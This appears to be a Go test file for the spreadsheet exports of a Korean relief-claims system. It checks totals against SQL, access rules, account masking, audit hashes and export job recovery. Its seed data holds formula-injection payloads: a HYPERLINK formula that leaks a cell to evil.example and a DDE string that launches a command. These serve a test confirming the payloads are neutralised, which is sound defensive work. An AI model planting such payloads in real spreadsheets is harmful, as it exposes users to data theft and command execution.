package handlers_test

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/jackc/pgx/v5"
	"github.com/xuri/excelize/v2"

	"github.com/relief/relief/exports"
	"github.com/relief/relief/models"
)

const claimsURL = "/api/v1/programs/" + models.DemoProgram + "/exports/claims.xlsx"

const hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"클릭")`

// seedProgram files a few claims through the intake (one named like a
// formula), bulk-inserts more, and posts entitlements through the ledger.
func seedProgram(t *testing.T, e *expEnv, bulk int) (evil uuid.UUID) {
	t.Helper()
	ctx := context.Background()
	evil = e.fileClaim(1, hyperlink, "대전", "food", 3_500_000)
	e.fileClaim(2, "+cmd|' /C calc'!A0", "제주", "agri", 1_200_000)
	e.fileClaim(3, "@SUM(1+1)", "제주", "fishery", 800_000)
	e.fileClaim(4, "정상 상회", "서울", "food", 2_000_000)
	e.bulkClaims(bulk, 1)
	if err := e.store.FundBudget(ctx, models.DemoProgram, models.InstrumentCompensation, 1_000_000_000, "fund:comp"); err != nil {
		t.Fatal(err)
	}
	if err := e.store.FundBudget(ctx, models.DemoProgram, models.InstrumentFeeWaiver, 100_000_000, "fund:fee"); err != nil {
		t.Fatal(err)
	}
	err := e.store.InTx(ctx, func(tx pgx.Tx) error {
		for i, p := range []struct {
			claim      uuid.UUID
			instrument string
			amount     int64
		}{{evil, models.InstrumentCompensation, 1_500_000}, {evil, models.InstrumentFeeWaiver, 90_000}} {
			if _, _, err := e.store.PostEntitlement(ctx, tx, models.NewEntitlement{ClaimID: p.claim, Program: models.DemoProgram,
				Instrument: p.instrument, Amount: p.amount, SourceKey: "test:" + strconv.Itoa(i)}); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return evil
}

func openWorkbook(t *testing.T, body []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatalf("not a workbook: %v", err)
	}
	t.Cleanup(func() { _ = f.Close() })
	return f
}

func rawRows(t *testing.T, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func sha(b []byte) string {
	h := sha256.Sum256(b)
	return hex.EncodeToString(h[:])
}

// auditedHash is the sha256 of the newest audit entry of action by email.
func auditedHash(t *testing.T, e *expEnv, email, action string) (hash string, details map[string]any) {
	t.Helper()
	var raw []byte
	e.scan(`SELECT details FROM audit_log WHERE actor = $1 AND action = $2 ORDER BY id DESC LIMIT 1`, []any{email, action}, &raw)
	if err := json.Unmarshal(raw, &details); err != nil {
		t.Fatal(err)
	}
	hash, _ = details["sha256"].(string)
	return hash, details
}

func TestClaimsRegisterMatchesTheDatabase(t *testing.T) {
	e := newExpEnv(t)
	seedProgram(t, e, 2_345) // more than two cursor batches
	c := e.login("reviewer@kpost.test")
	r := c.do("GET", claimsURL, nil).must(t, http.StatusOK)
	if ct := r.header.Get("Content-Type"); ct != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
		t.Errorf("Content-Type = %q", ct)
	}
	if cd := r.header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="KPOST-2025-NIRS_claims_`) {
		t.Errorf("Content-Disposition = %q", cd)
	}
	f := openWorkbook(t, r.body)
	rows := rawRows(t, f, "피해접수대장")

	var n int
	var sums [7]int64
	e.scan(`SELECT count(*), sum(claimed_loss), sum(coalesce(estimated_loss, 0)), sum(approved_compensation),
			sum(prepurchase_allocated), sum(fee_waived), sum(owed_total), sum(paid_total)
		FROM claims WHERE program_code = $1`, []any{models.DemoProgram},
		&n, &sums[0], &sums[1], &sums[2], &sums[3], &sums[4], &sums[5], &sums[6])
	if n != 2_349 {
		t.Fatalf("%d claims in the database", n)
	}
	// header, n data rows, a blank row, the control-total row
	if len(rows) != n+3 {
		t.Fatalf("%d rows, want header + %d + blank + total", len(rows), n)
	}
	var got [7]int64
	receipts := map[string]bool{}
	for _, row := range rows[1 : n+1] {
		receipts[row[0]] = true
		for j := range got {
			v, err := strconv.ParseInt(row[7+j], 10, 64)
			if err != nil {
				t.Fatalf("amount %q in row %v: %v", row[7+j], row, err)
			}
			got[j] += v
		}
	}
	if len(receipts) != n {
		t.Errorf("%d distinct receipts for %d claims", len(receipts), n)
	}
	if got != sums {
		t.Errorf("column sums %v, SQL sums %v", got, sums)
	}
	total := rows[n+2]
	if total[0] != "합계" || total[1] != strconv.Itoa(n) {
		t.Errorf("total row starts %q", total[:2])
	}
	for j, want := range sums {
		if total[7+j] != strconv.FormatInt(want, 10) {
			t.Errorf("control total %s = %s, SQL %d", rows[0][7+j], total[7+j], want)
		}
	}
	// Korean labels for categories and statuses, BRNs formatted.
	var food, approved bool
	for _, row := range rows[1 : n+1] {
		food = food || row[4] == "식품"
		approved = approved || row[6] == "승인"
		if !regexp.MustCompile(`^\d{3}-\d{2}-\d{5}$`).MatchString(row[1]) {
			t.Fatalf("BRN %q", row[1])
		}
	}
	if !food || !approved {
		t.Error("category or status labels missing")
	}

	info := rawRows(t, f, exports.InfoSheet)
	facts := map[string]string{}
	for _, row := range info {
		if len(row) >= 2 {
			facts[row[0]] = row[1]
		}
	}
	if facts["사업코드"] != models.DemoProgram || !strings.Contains(facts["생성자"], "reviewer@kpost.test") ||
		facts["규칙 버전"] != "v1" || facts["피해접수대장 행 수"] != strconv.Itoa(n) {
		t.Errorf("정보 sheet: %v", facts)
	}

	hash, details := auditedHash(t, e, "reviewer@kpost.test", "export.download")
	if hash != sha(r.body) {
		t.Errorf("audited sha256 %s, downloaded bytes hash to %s", hash, sha(r.body))
	}
	if details["kind"] != "claims" || details["rows"] != float64(n) || details["complete"] != true || details["bytes"] != float64(len(r.body)) {
		t.Errorf("audit details %v", details)
	}
	if broken, _, err := e.store.VerifyAudit(context.Background()); err != nil || broken != 0 {
		t.Errorf("audit chain broken at %d: %v", broken, err)
	}

	t.Run("LibreOffice reads it", func(t *testing.T) {
		soffice, err := exec.LookPath("soffice")
		if err != nil {
			t.Skip("soffice not installed")
		}
		dir := t.TempDir()
		in := filepath.Join(dir, "claims.xlsx")
		if err := os.WriteFile(in, r.body, 0o600); err != nil {
			t.Fatal(err)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		defer cancel()
		out, err := exec.CommandContext(ctx, soffice, "--headless", "--convert-to", "csv", "--outdir", dir, in).CombinedOutput()
		if err != nil {
			t.Fatalf("soffice: %v: %s", err, out)
		}
		csv, err := os.ReadFile(filepath.Join(dir, "claims.csv"))
		if err != nil {
			t.Fatal(err)
		}
		if lines := strings.Count(string(csv), "\n"); lines < n+1 {
			t.Errorf("LibreOffice read %d lines, want at least %d", lines, n+1)
		}
	})
}

// A claim whose business name is a formula exports as text: the cell holds
// the name with a leading quote and no worksheet in the archive has a formula.
func TestFormulaInjectionIsNeutralisedEndToEnd(t *testing.T) {
	e := newExpEnv(t)
	seedProgram(t, e, 0)
	c := e.login("auditor@kpost.test")
	for _, kind := range []string{"claims", "summary"} {
		r := c.do("GET", "/api/v1/programs/"+models.DemoProgram+"/exports/"+kind+".xlsx", nil).must(t, http.StatusOK)
		zr, err := zip.NewReader(bytes.NewReader(r.body), int64(len(r.body)))
		if err != nil {
			t.Fatal(err)
		}
		sheets := 0
		for _, zf := range zr.File {
			if !strings.HasPrefix(zf.Name, "xl/worksheets/") || !strings.HasSuffix(zf.Name, ".xml") {
				continue
			}
			sheets++
			rc, err := zf.Open()
			if err != nil {
				t.Fatal(err)
			}
			xml, _ := io.ReadAll(rc)
			rc.Close()
			if regexp.MustCompile(`<f[ >]`).Match(xml) {
				t.Errorf("%s: %s contains a formula", kind, zf.Name)
			}
		}
		if sheets < 2 {
			t.Errorf("%s: %d worksheets", kind, sheets)
		}
		if kind != "claims" {
			continue
		}
		rows := rawRows(t, openWorkbook(t, r.body), "피해접수대장")
		names := map[string]bool{}
		for _, row := range rows[1:] {
			if len(row) > 2 {
				names[row[2]] = true
			}
		}
		for _, want := range []string{"'" + hyperlink, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "정상 상회"} {
			if !names[want] {
				t.Errorf("business name %q not exported as text; names %v", want, names)
			}
		}
	}
}

// summaryTable reads a table of the 요약 sheet by its title: label → [count, amount].
func summaryTable(t *testing.T, rows [][]string, title string) map[string][2]int64 {
	t.Helper()
	out := map[string][2]int64{}
	for i, row := range rows {
		if len(row) == 0 || row[0] != title {
			continue
		}
		for _, r := range rows[i+2:] {
			if len(r) < 3 || r[0] == "합계" {
				return out
			}
			n, err1 := strconv.ParseInt(r[1], 10, 64)
			a, err2 := strconv.ParseInt(r[2], 10, 64)
			if err1 != nil || err2 != nil {
				t.Fatalf("%s row %q", title, r)
			}
			out[r[0]] = [2]int64{n, a}
		}
	}
	t.Fatalf("table %q not found", title)
	return nil
}

func sqlTable(t *testing.T, e *expEnv, query string, label func(string) string) map[string][2]int64 {
	t.Helper()
	rows, err := e.store.Pool.Query(context.Background(), query, models.DemoProgram)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string][2]int64{}
	var k string
	var n, a int64
	if _, err := pgx.ForEachRow(rows, []any{&k, &n, &a}, func() error { out[label(k)] = [2]int64{n, a}; return nil }); err != nil {
		t.Fatal(err)
	}
	return out
}

func TestSummaryTablesMatchSQLGroupBys(t *testing.T) {
	e := newExpEnv(t)
	seedProgram(t, e, 500)
	r := e.login("reviewer@kpost.test").do("GET", "/api/v1/programs/"+models.DemoProgram+"/exports/summary.xlsx", nil).must(t, http.StatusOK)
	f := openWorkbook(t, r.body)
	rows := rawRows(t, f, exports.SummarySheet)
	same := func(s string) string { return s }
	categories := map[string]string{"food": "식품", "agri": "농산물", "fishery": "수산물", "processed": "가공식품", "living": "생활용품",
		"fashion": "의류·잡화", "crafts": "공예품", "health": "건강식품", "other": "기타"}
	checks := []struct {
		title, sql string
		label      func(string) string
	}{
		{"상태별 현황", `SELECT status, count(*), sum(claimed_loss) FROM claims WHERE program_code = $1 GROUP BY 1`, exports.StatusLabel},
		{"지역별 현황", `SELECT region, count(*), sum(owed_total) FROM claims WHERE program_code = $1 GROUP BY 1`, same},
		{"업종별 현황", `SELECT category, count(*), sum(owed_total) FROM claims WHERE program_code = $1 GROUP BY 1`,
			func(k string) string { return categories[k] }},
		{"지원수단별 현황", `SELECT CASE instrument WHEN 'compensation' THEN '직접 보상' WHEN 'fee_waiver' THEN '수수료 면제' ELSE '정부 선매입' END,
			count(DISTINCT claim_id), sum(amount) FROM entitlements WHERE program_code = $1 AND status <> 'reversed' GROUP BY 1`, same},
	}
	for _, c := range checks {
		got, want := summaryTable(t, rows, c.title), sqlTable(t, e, c.sql, c.label)
		if len(got) != len(want) || len(want) == 0 {
			t.Errorf("%s: %d lines, SQL %d", c.title, len(got), len(want))
		}
		for k, w := range want {
			if got[k] != w {
				t.Errorf("%s %q: workbook %v, SQL %v", c.title, k, got[k], w)
			}
		}
	}
	// The native charts are there.
	zr, _ := zip.NewReader(bytes.NewReader(r.body), int64(len(r.body)))
	charts := 0
	for _, zf := range zr.File {
		if strings.HasPrefix(zf.Name, "xl/charts/chart") {
			charts++
		}
	}
	if charts != 4 {
		t.Errorf("%d charts, want one per table", charts)
	}
	if hash, _ := auditedHash(t, e, "reviewer@kpost.test", "export.download"); hash != sha(r.body) {
		t.Error("summary export not audited with its hash")
	}
}

func TestExportAccessRules(t *testing.T) {
	e := newExpEnv(t)
	seedProgram(t, e, 10)
	before := 0
	e.scan(`SELECT count(*) FROM audit_log WHERE action LIKE 'export.%'`, nil, &before)

	if r := e.anonymous().do("GET", claimsURL, nil); r.status != http.StatusUnauthorized {
		t.Errorf("anonymous: %d", r.status)
	}
	merchant := e.login("merchant@shop.test")
	for _, path := range []string{claimsURL, "/api/v1/programs/" + models.DemoProgram + "/exports/payouts.xlsx",
		"/api/v1/programs/" + models.DemoProgram + "/dashboard"} {
		if r := merchant.do("GET", path, nil); r.status != http.StatusForbidden && r.status != http.StatusNotFound {
			t.Errorf("merchant %s: %d", path, r.status)
		}
	}
	if r := merchant.do("POST", "/api/v1/exports", map[string]string{"program": models.DemoProgram, "kind": "claims"}); r.status != http.StatusForbidden {
		t.Errorf("merchant job: %d %s", r.status, r.body)
	}
	other := e.login("reviewer@mss.test") // staff (and finance) of another agency
	for _, path := range []string{claimsURL, "/api/v1/programs/" + models.DemoProgram + "/exports/summary.xlsx",
		"/api/v1/programs/" + models.DemoProgram + "/dashboard", "/programs/" + models.DemoProgram + "/exports",
		"/programs/" + models.DemoProgram + "/dashboard"} {
		if r := other.do("GET", path, nil); r.status != http.StatusNotFound {
			t.Errorf("other agency %s: %d", path, r.status)
		}
	}
	r := other.do("POST", "/api/v1/exports", map[string]string{"program": models.DemoProgram, "kind": "claims"})
	if r.status != http.StatusNotFound {
		t.Errorf("other agency job: %d", r.status)
	}
	staff := e.login("reviewer@kpost.test")
	if r := staff.do("GET", "/api/v1/programs/"+models.DemoProgram+"/exports/secrets.xlsx", nil); r.status != http.StatusNotFound {
		t.Errorf("unknown kind: %d", r.status)
	}
	if r := staff.do("GET", "/api/v1/programs/NOPE/exports/claims.xlsx", nil); r.status != http.StatusNotFound {
		t.Errorf("unknown program: %d", r.status)
	}
	if r := staff.do("POST", "/api/v1/exports", map[string]string{"program": models.DemoProgram, "kind": "secrets"}); r.status != http.StatusUnprocessableEntity {
		t.Errorf("unknown kind job: %d", r.status)
	}
	after := 0
	e.scan(`SELECT count(*) FROM audit_log WHERE action LIKE 'export.%'`, nil, &after)
	if after != before {
		t.Errorf("refused exports wrote %d audit entries", after-before)
	}
}

// seedPayouts puts one completed batch in place: a paid, a failed and a pending line.
func seedPayouts(t *testing.T, e *expEnv) (accounts []string) {
	t.Helper()
	claims := []uuid.UUID{e.fileClaim(11, "지급상회", "부산", "food", 1_000_000), e.fileClaim(12, "실패상회", "부산", "food", 1_000_000),
		e.fileClaim(13, "대기상회", "부산", "food", 1_000_000)}
	batch := uuid.New()
	creator, approver := e.users["finance@kpost.test"].ID, e.users["finance2@kpost.test"].ID
	e.exec(`INSERT INTO payout_batches (id, program_code, cutoff, status, line_count, total, approved_count, approved_total,
			created_by, approved_by, approved_at) VALUES ($1, $2, now(), 'completed', 3, 330000, 3, 330000, $3, $4, now())`,
		batch, models.DemoProgram, creator, approver)
	for i, st := range []string{"paid", "failed", "pending"} {
		settled := "now()"
		if st == "pending" {
			settled = "NULL"
		}
		e.exec(`INSERT INTO payout_lines (id, batch_id, seq, claim_id, program_code, bank_code, amount, transfer_key, status,
				approved, failure_reason, settled_at) VALUES ($1, $2, $3, $4, $5, '004', $6, $7, $8, true, $9, `+settled+`)`,
			uuid.New(), batch, i+1, claims[i], models.DemoProgram, int64(100_000+i*10_000), "PL-"+strconv.Itoa(i+1), st,
			map[bool]string{true: "계좌 오류", false: ""}[st == "failed"])
		accounts = append(accounts, "1002"+strings.Repeat("0", 8)+strconv.Itoa(11+i))
	}
	return accounts
}

func TestPayoutSheetMasksAccountsExceptForFinance(t *testing.T) {
	e := newExpEnv(t)
	accounts := seedPayouts(t, e)
	path := "/api/v1/programs/" + models.DemoProgram + "/exports/payouts.xlsx"
	for _, who := range []struct {
		email string
		full  bool
	}{{"reviewer@kpost.test", false}, {"finance@kpost.test", true}} {
		r := e.login(who.email).do("GET", path, nil).must(t, http.StatusOK)
		rows := rawRows(t, openWorkbook(t, r.body), "지급내역")
		if len(rows) != 1+3+2 {
			t.Fatalf("%s: %d rows", who.email, len(rows))
		}
		var sum int64
		for i, row := range rows[1:4] {
			want := accounts[i]
			if !who.full {
				want = strings.Repeat("*", len(want)-4) + want[len(want)-4:]
			}
			if row[6] != want {
				t.Errorf("%s: account %q, want %q", who.email, row[6], want)
			}
			a, _ := strconv.ParseInt(row[8], 10, 64)
			sum += a
		}
		if rows[1][9] != "지급 완료" || rows[2][9] != "실패" || rows[2][10] != "계좌 오류" || rows[3][9] != "대기" {
			t.Errorf("statuses %q %q %q", rows[1][9:11], rows[2][9:11], rows[3][9:11])
		}
		if sum != 330_000 || rows[5][8] != "330000" {
			t.Errorf("sum %d, total row %q", sum, rows[5][8])
		}
		hash, details := auditedHash(t, e, who.email, "export.download")
		if hash != sha(r.body) || details["accounts"] != map[bool]string{true: "full", false: "masked"}[who.full] {
			t.Errorf("%s: audit %v", who.email, details)
		}
		if !who.full && bytes.Contains(r.body, []byte(accounts[0])) {
			t.Error("a full account number is in the masked file")
		}
	}
}

type jobView struct {
	ID        uuid.UUID `json:"id"`
	Status    string    `json:"status"`
	RowsDone  int64     `json:"rows_done"`
	RowsTotal int64     `json:"rows_total"`
	SHA256    string    `json:"sha256"`
	Error     string    `json:"error"`
}

func waitJob(t *testing.T, c *expClient, id uuid.UUID) jobView {
	t.Helper()
	deadline := time.Now().Add(60 * time.Second)
	var seen []string
	for {
		r := c.do("GET", "/api/v1/exports/"+id.String(), nil).must(t, http.StatusOK)
		var j jobView
		if err := json.Unmarshal(r.body, &j); err != nil {
			t.Fatal(err)
		}
		if j.RowsDone > j.RowsTotal && j.Status != "queued" {
			t.Errorf("progress %d of %d", j.RowsDone, j.RowsTotal)
		}
		if len(seen) == 0 || seen[len(seen)-1] != j.Status {
			seen = append(seen, j.Status)
		}
		if j.Status == models.ExportDone || j.Status == models.ExportFailed {
			t.Logf("job statuses seen: %v", seen)
			return j
		}
		if time.Now().After(deadline) {
			t.Fatalf("job still %s after a minute", j.Status)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func TestExportJobLifecycle(t *testing.T) {
	e := newExpEnv(t)
	seedProgram(t, e, 16_000) // over the UI's direct-download threshold and 1 MiB
	c := e.login("finance@kpost.test")
	body := map[string]string{"program": models.DemoProgram, "kind": "claims"}
	r := c.do("POST", "/api/v1/exports", body, "Idempotency-Key", "job-1").must(t, http.StatusAccepted)
	var created jobView
	if err := json.Unmarshal(r.body, &created); err != nil || created.ID == uuid.Nil {
		t.Fatalf("202 body %s", r.body)
	}
	if loc := r.header.Get("Location"); loc != "/api/v1/exports/"+created.ID.String() {
		t.Errorf("Location %q", loc)
	}
	again := c.do("POST", "/api/v1/exports", body, "Idempotency-Key", "job-1").must(t, http.StatusAccepted)
	if !bytes.Equal(again.body, r.body) {
		t.Errorf("replay answered %s, first %s", again.body, r.body)
	}

	// Someone else, even of the same agency, cannot see the job or its file.
	colleague := e.login("finance2@kpost.test")
	for _, p := range []string{"/api/v1/exports/" + created.ID.String(), "/api/v1/exports/" + created.ID.String() + "/file",
		"/api/v1/exports/not-a-uuid"} {
		if r := colleague.do("GET", p, nil); r.status != http.StatusNotFound {
			t.Errorf("colleague %s: %d", p, r.status)
		}
	}

	start := time.Now()
	job := waitJob(t, c, created.ID)
	t.Logf("job took %v", time.Since(start))
	var n int64
	e.scan(`SELECT count(*) FROM claims WHERE program_code = $1`, []any{models.DemoProgram}, &n)
	if job.Status != models.ExportDone || job.RowsDone != n || job.RowsTotal != n {
		t.Fatalf("job %+v, %d claims", job, n)
	}
	file := c.do("GET", "/api/v1/exports/"+created.ID.String()+"/file", nil).must(t, http.StatusOK)
	if sha(file.body) != job.SHA256 || file.header.Get("Content-Length") != strconv.Itoa(len(file.body)) {
		t.Errorf("file hash %s, job says %s", sha(file.body), job.SHA256)
	}
	if len(file.body) <= models.ExportChunkSize {
		t.Errorf("a %d-byte file does not exercise chunked storage", len(file.body))
	}
	rows := rawRows(t, openWorkbook(t, file.body), "피해접수대장")
	if int64(len(rows)) != n+3 {
		t.Errorf("%d rows in the job's file, want %d", len(rows), n+3)
	}
	if h, d := auditedHash(t, e, "finance@kpost.test", "export.generate"); h != job.SHA256 || d["job"] != created.ID.String() {
		t.Errorf("generate audit %v", d)
	}
	if h, d := auditedHash(t, e, "finance@kpost.test", "export.download"); h != sha(file.body) || d["via"] != "job" {
		t.Errorf("download audit %v", d)
	}

	// A job that did not finish has no file.
	failed := uuid.New()
	e.exec(`INSERT INTO export_jobs (id, program_code, kind, requested_by, status, error, finished_at)
		VALUES ($1, $2, 'claims', $3, 'failed', 'internal_error', now())`, failed, models.DemoProgram, e.users["finance@kpost.test"].ID)
	if r := c.do("GET", "/api/v1/exports/"+failed.String()+"/file", nil); r.status != http.StatusConflict || r.code(t) != "export_not_ready" {
		t.Errorf("failed job file: %d %s", r.status, r.body)
	}
}

// A job whose replica died mid-run (heartbeat stopped, half a file stored)
// is taken over by the next poll and finished from scratch under a new lease.
func TestExportJobResumesAfterACrash(t *testing.T) {
	e := newExpEnv(t)
	seedProgram(t, e, 300)
	c := e.login("reviewer@kpost.test")
	id, deadLease := uuid.New(), uuid.New()
	e.exec(`INSERT INTO export_jobs (id, program_code, kind, requested_by, status, attempts, lease, heartbeat_at, started_at, rows_done, rows_total)
		VALUES ($1, $2, 'claims', $3, 'running', 1, $4, now() - interval '10 minutes', now() - interval '11 minutes', 100, 304)`,
		id, models.DemoProgram, e.users["reviewer@kpost.test"].ID, deadLease)
	e.exec(`INSERT INTO export_chunks (job_id, seq, data) VALUES ($1, 0, 'half a file')`, id)

	job := waitJob(t, c, id)
	if job.Status != models.ExportDone || job.RowsDone != 304 {
		t.Fatalf("job %+v", job)
	}
	var attempts int
	e.scan(`SELECT attempts FROM export_jobs WHERE id = $1`, []any{id}, &attempts)
	if attempts != 2 {
		t.Errorf("attempts = %d", attempts)
	}
	file := c.do("GET", "/api/v1/exports/"+id.String()+"/file", nil).must(t, http.StatusOK)
	if sha(file.body) != job.SHA256 || bytes.Contains(file.body, []byte("half a file")) {
		t.Error("the resumed job's file is not a fresh one")
	}
	openWorkbook(t, file.body)

	// One stuck too often is failed, not retried forever.
	stuck := uuid.New()
	e.exec(`INSERT INTO export_jobs (id, program_code, kind, requested_by, status, attempts, lease, heartbeat_at)
		VALUES ($1, $2, 'claims', $3, 'running', $4, $5, now() - interval '10 minutes')`,
		stuck, models.DemoProgram, e.users["reviewer@kpost.test"].ID, models.ExportMaxAttempts, uuid.New())
	if j := waitJob(t, c, stuck); j.Status != models.ExportFailed {
		t.Errorf("stuck job ended %s", j.Status)
	}
}

var inlineScript = regexp.MustCompile(`<script(?:\s[^>]*)?>\s*[^<\s]|<script>|\sstyle=|\son[a-z]+=`)

func TestExportsPageAndProgressPartial(t *testing.T) {
	e := newExpEnv(t)
	seedProgram(t, e, 10_500)
	c := e.login("reviewer@kpost.test")
	page := c.do("GET", "/programs/"+models.DemoProgram+"/exports", nil).must(t, http.StatusOK)
	html := string(page.body)
	if inlineScript.MatchString(html) {
		t.Errorf("inline script or style: %s", inlineScript.FindString(html))
	}
	// 10,504 claims: the claims register goes through a job; the summary downloads at once.
	if strings.Contains(html, `data-testid="download-claims"`) || !strings.Contains(html, `data-testid="download-summary"`) {
		t.Error("direct download offered for the wrong kinds")
	}
	if !strings.Contains(html, "10,504") {
		t.Error("row count not shown")
	}
	part := c.do("POST", "/programs/"+models.DemoProgram+"/exports", "kind=claims", "HX-Request", "true").must(t, http.StatusOK)
	m := regexp.MustCompile(`hx-get="/exports/([0-9a-f-]{36})/progress"`).FindSubmatch(part.body)
	if m == nil || !bytes.Contains(part.body, []byte("<progress")) {
		t.Fatalf("partial without a polling progress bar: %s", part.body)
	}
	id := string(m[1])
	deadline := time.Now().Add(time.Minute)
	for {
		p := c.do("GET", "/exports/"+id+"/progress", nil).must(t, http.StatusOK)
		if bytes.Contains(p.body, []byte(`href="/api/v1/exports/`+id+`/file"`)) {
			if bytes.Contains(p.body, []byte("hx-trigger")) {
				t.Error("a finished job keeps polling")
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("progress never finished: %s", p.body)
		}
		time.Sleep(100 * time.Millisecond)
	}
	// Without htmx the form answers with a redirect to the page, which lists the jobs.
	noJS := &http.Client{Jar: c.hc.Jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	req, _ := http.NewRequest("POST", e.url+"/programs/"+models.DemoProgram+"/exports", strings.NewReader("kind=summary"))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	resp, err := noJS.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/programs/"+models.DemoProgram+"/exports" {
		t.Errorf("form without htmx: %d %s", resp.StatusCode, resp.Header.Get("Location"))
	}
	if !strings.Contains(string(c.do("GET", "/programs/"+models.DemoProgram+"/exports", nil).body), `data-testid="export-job"`) {
		t.Error("jobs not listed on the page")
	}
}

func TestAllocationAndFeeWaiverSheetsMatchTheDatabase(t *testing.T) {
	e := newExpEnv(t)
	ctx := context.Background()
	claims := []uuid.UUID{e.fileClaim(31, "=사과농장", "경북", "agri", 5_000_000), e.fileClaim(32, "바다수산", "전남", "fishery", 4_000_000),
		e.fileClaim(33, "한과공방", "전북", "processed", 3_000_000)}
	admin, approver := e.users["reviewer@kpost.test"].ID, e.users["auditor@kpost.test"].ID
	// Two approved tranches with purchase orders, and a draft one that is not exported.
	for seq, tr := range []struct {
		name, status string
		budget       int64
	}{{"1차", "approved", 1_100_000}, {"2차", "notified", 2_200_000}, {"3차", "draft", 500_000}} {
		id := uuid.New()
		approvedBy, approvedAt, approvalSeq := any(nil), any(nil), any(nil)
		if tr.status != "draft" {
			approvedBy, approvedAt, approvalSeq = approver, time.Now(), seq+1
		}
		e.exec(`INSERT INTO tranches (id, program_code, seq, name, budget, status, created_by, previewed_at, approved_by, approved_at, approval_seq)
			VALUES ($1, $2, $3, $4, $5, $6, $7, now(), $8, $9, $10)`, id, models.DemoProgram, seq+1, tr.name, tr.budget, tr.status, admin,
			approvedBy, approvedAt, approvalSeq)
		if tr.status == "draft" {
			continue
		}
		for i, claim := range claims[:2+seq] {
			po := uuid.New()
			items := [][3]int64{{25_000, int64(4 + i)}, {12_340, int64(3 + seq)}}
			var amount int64
			for _, it := range items {
				amount += it[0] * it[1]
			}
			e.exec(`INSERT INTO purchase_orders (id, order_no, tranche_id, claim_id, program_code, amount) VALUES ($1, $2, $3, $4, $5, $6)`,
				po, "PO-"+strconv.Itoa(seq+1)+"-"+strconv.Itoa(i+1), id, claim, models.DemoProgram, amount)
			for j, it := range items {
				e.exec(`INSERT INTO purchase_order_items (po_id, sku, name, perishable, unit_price, quantity, amount) VALUES ($1, $2, $3, $4, $5, $6, $7)`,
					po, "SKU-"+strconv.Itoa(j), "+품목"+strconv.Itoa(j), j == 0, it[0], it[1], it[0]*it[1])
			}
		}
	}
	// Fee waivers: two entitled lines and an unfunded one.
	if err := e.store.FundBudget(ctx, models.DemoProgram, models.InstrumentFeeWaiver, 10_000_000, "fund:fee"); err != nil {
		t.Fatal(err)
	}
	for i, fw := range []struct {
		sales, waived int64
		status        string
	}{{10_000_005, 600_000, "entitled"}, {3_333_333, 199_999, "entitled"}, {1_000_000, 60_000, "unfunded"}} {
		amount := fw.waived / 10 * 10
		var ent any
		if fw.status == "entitled" {
			err := e.store.InTx(ctx, func(tx pgx.Tx) error {
				id, _, err := e.store.PostEntitlement(ctx, tx, models.NewEntitlement{ClaimID: claims[i], Program: models.DemoProgram,
					Instrument: models.InstrumentFeeWaiver, Amount: amount, SourceKey: "fw:" + strconv.Itoa(i)})
				ent = id
				return err
			})
			if err != nil {
				t.Fatal(err)
			}
		}
		e.exec(`INSERT INTO fee_waiver_lines (program_code, claim_id, rows_in_period, gross_sales, commission, rate_bp, waived, amount,
				remainder, status, entitlement_id, run_key) VALUES ($1, $2, 31, $3, $4, 600, $4, $5, $6, $7, $8, 'run-1')`,
			models.DemoProgram, claims[i], fw.sales, fw.waived, amount, fw.waived-amount, fw.status, ent)
	}

	c := e.login("reviewer@kpost.test")
	r := c.do("GET", "/api/v1/programs/"+models.DemoProgram+"/exports/allocations.xlsx", nil).must(t, http.StatusOK)
	f := openWorkbook(t, r.body)
	for _, tr := range []string{"1차", "2차"} {
		rows := rawRows(t, f, "선매입 "+tr)
		var lines int
		var sum int64
		e.scan(`SELECT count(*), sum(i.amount) FROM purchase_order_items i JOIN purchase_orders po ON po.id = i.po_id
			JOIN tranches t ON t.id = po.tranche_id WHERE t.name = $1`, []any{tr}, &lines, &sum)
		if len(rows) != lines+3 {
			t.Fatalf("%s: %d rows for %d lines", tr, len(rows), lines)
		}
		var got int64
		for _, row := range rows[1 : lines+1] {
			up, _ := strconv.ParseInt(row[7], 10, 64)
			q, _ := strconv.ParseInt(row[8], 10, 64)
			a, _ := strconv.ParseInt(row[9], 10, 64)
			if up*q != a || !strings.HasPrefix(row[5], "'+품목") {
				t.Errorf("%s line %q", tr, row)
			}
			got += a
		}
		if got != sum || rows[lines+2][9] != strconv.FormatInt(sum, 10) {
			t.Errorf("%s: lines sum %d, total row %s, SQL %d", tr, got, rows[lines+2][9], sum)
		}
	}
	if sheets := f.GetSheetList(); len(sheets) != 3 {
		t.Errorf("sheets %v: the draft tranche must not be exported", sheets)
	}

	r = c.do("GET", "/api/v1/programs/"+models.DemoProgram+"/exports/fee-waivers.xlsx", nil).must(t, http.StatusOK)
	f = openWorkbook(t, r.body)
	rows := rawRows(t, f, "수수료면제")
	if len(rows) != 2+3 {
		t.Fatalf("%d rows, want the 2 entitled lines", len(rows))
	}
	var owed int64
	e.scan(`SELECT sum(amount) FROM entitlements WHERE instrument = 'fee_waiver'`, nil, &owed)
	if rows[4][6] != strconv.FormatInt(owed, 10) || rows[1][3] != "농산물" || rows[1][2] != "'=사과농장" {
		t.Errorf("fee waiver rows %q, entitlements %d", rows, owed)
	}
	info := map[string]string{}
